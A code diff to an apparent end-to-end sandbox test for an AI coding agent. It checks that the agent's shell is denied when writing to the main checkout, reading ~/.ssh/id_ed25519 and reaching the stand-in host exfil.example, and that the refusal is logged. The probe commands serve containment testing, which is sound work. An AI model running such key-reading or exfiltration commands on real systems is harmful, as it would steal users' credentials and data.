@@ -89,7 +89,10 @@ def test_claude_worker_lifecycle(team: Team) -> None:
     bash = ("printf 'hello\\n' > hello.txt && git add hello.txt && "
             "git -c user.name=W1 -c user.email=w1@example.invalid commit -q -m 'Add hello.txt' && echo COMMITTED; "
             f"(echo pwned >> {readme}) 2>/dev/null && echo WROTE-MAIN || echo DENIED-MAIN; "
-            f"cat {team.home.home}/.ssh/id_ed25519 2>/dev/null || echo DENIED-SSH")
+            f"cat {team.home.home}/.ssh/id_ed25519 2>/dev/null || echo DENIED-SSH; "
+            # a host off its allow-list: refused by exo's proxy (logged, counted); no name is looked up inside
+            "curl -sS -m 30 -o /dev/null https://exfil.example/ 2>&1 | tail -1; "
+            "getent hosts exfil.example >/dev/null 2>&1 && echo DNS-LEAK || echo NO-DNS")
     server.script(*({**turn, "usage": turn_usage(n)} for n, turn in enumerate((
         {"tool": "Bash", "input": {"command": bash, "description": "write and commit hello.txt"}},
         {"tool": "mcp__exo__note", "input": {"message": note_text}},
@@ -139,6 +142,12 @@ def test_claude_worker_lifecycle(team: Team) -> None:
     assert bash_result is not None and not anthropic_is_error(bash_req, first["tool_id"]), bash_result
     walls = json.dumps(bash_result)  # its shell commits in its clone and reaches neither the checkout nor ~/.ssh
     assert "COMMITTED" in walls and "DENIED-MAIN" in walls and "DENIED-SSH" in walls and "SSH-CANARY" not in walls
+    assert "CONNECT tunnel failed, response 403" in walls and "NO-DNS" in walls, walls
+    from exo_cli.adapters import netlog
+
+    log = netlog.folder(team.repo / ".git" / "exo")
+    refused = netlog.refusals(log, netlog.stem(team.agent("w1").spec["socket_key"]))
+    assert [(e["agent"], e["host"], e["port"]) for e in refused] == [("w1", "exfil.example", 443)]
     assert readme.read_text() == "# e2e\n"
     assert (worktree / "hello.txt").read_text() == "hello\n"
     assert git(team.repo, "log", "-1", "--format=%s", "main.w1") == "Add hello.txt"
@@ -200,7 +209,7 @@ def test_claude_worker_lifecycle(team: Team) -> None:
     assert git(team.repo, "branch", "--list", "main.w1") == ""
     assert str(worktree) not in json.loads(claude_json.read_text()).get("projects", {})
     assert team.agent("w1").status == "done"
-    assert team.exo_json("agents", "--all")["agents"][0]["net_refused"] == 0  # it tried no host off its list
+    assert team.exo_json("agents", "--all")["agents"][0]["net_refused"] == 1  # the one host off its list it tried
     assert_no_egress(server)
 
 
